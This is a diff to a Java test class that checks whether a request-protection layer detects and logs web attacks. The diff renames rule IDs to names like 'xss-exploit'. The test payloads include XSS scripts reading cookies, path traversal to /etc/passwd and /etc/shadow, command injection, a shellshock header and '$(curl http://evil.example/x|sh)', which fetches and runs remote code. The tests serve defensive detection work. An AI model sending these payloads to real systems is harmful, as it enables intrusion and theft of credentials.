@@ -53,15 +53,15 @@ class RequestProtectionTest {
 
     static List<RequestAttack> requestAttacks() {
         return List.of(
-                new RequestAttack("xss-request", base -> get(base, "api/books/search?q=" + q("<script>alert(document.cookie)</script>"))),
-                new RequestAttack("xss-request", base -> post(base, "api/books/2/reviews", "application/x-www-form-urlencoded",
+                new RequestAttack("xss-exploit", base -> get(base, "api/books/search?q=" + q("<script>alert(document.cookie)</script>"))),
+                new RequestAttack("xss-exploit", base -> post(base, "api/books/2/reviews", "application/x-www-form-urlencoded",
                         "author=eve&text=" + q("great book <img src=x onerror=alert(document.domain)>"))),
-                new RequestAttack("xss-request", base -> post(base, "api/login", "application/json",
+                new RequestAttack("xss-exploit", base -> post(base, "api/login", "application/json",
                         "{\"username\":\"\\\" onmouseover=alert(1) x=\\\"\",\"password\":\"x\"}")),
-                new RequestAttack("path-traversal", base -> get(base, "api/books/search?q=" + q("../../../../etc/passwd"))),
-                new RequestAttack("path-traversal", base -> get(base, "api/books/search?q=%252e%252e%252f%252e%252e%252fetc%252fshadow")),
-                new RequestAttack("command-injection", base -> get(base, "api/books/search?q=" + q("x; cat /etc/passwd"))),
-                new RequestAttack("command-injection", base -> get(base, "api/me", "Cookie", "session=" + q("$(curl http://evil.example/x|sh)"))),
+                new RequestAttack("path-traversal-exploit", base -> get(base, "api/books/search?q=" + q("../../../../etc/passwd"))),
+                new RequestAttack("path-traversal-exploit", base -> get(base, "api/books/search?q=%252e%252e%252f%252e%252e%252fetc%252fshadow")),
+                new RequestAttack("command-injection-exploit", base -> get(base, "api/books/search?q=" + q("x; cat /etc/passwd"))),
+                new RequestAttack("command-injection-exploit", base -> get(base, "api/me", "Cookie", "session=" + q("$(curl http://evil.example/x|sh)"))),
                 new RequestAttack("scanner-user-agent", base -> get(base, "api/books/search?q=Emma", "User-Agent",
                         "sqlmap/1.8.2#stable (https://sqlmap.org)")),
                 new RequestAttack("shellshock", base -> get(base, "api/books/search?q=Emma", "Referer", "() { :; }; /bin/bash -c id")),
@@ -149,8 +149,8 @@ class RequestProtectionTest {
                 assertThat(attack.call().send(server.uri()).statusCode()).as(attack.rule()).isIn(200, 201, 401);
             }
             await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(String.join("\n", batches))
-                    .contains("\"rule_id\":\"xss-request\"", "\"rule_id\":\"path-traversal\"",
-                            "\"rule_id\":\"command-injection\"", "\"rule_id\":\"scanner-user-agent\"",
+                    .contains("\"rule_id\":\"xss-exploit\"", "\"rule_id\":\"path-traversal-exploit\"",
+                            "\"rule_id\":\"command-injection-exploit\"", "\"confidence\":\"high\"", "\"rule_id\":\"scanner-user-agent\"",
                             "\"rule_id\":\"shellshock\"", "\"rule_id\":\"jndi-lookup\"", "\"rule_id\":\"ip-denylist\"", "\"client_ip\":\"203.0.113.9\""));
             String all = String.join("\n", batches);
             assertThat(all).doesNotContain("\"blocked\":true");
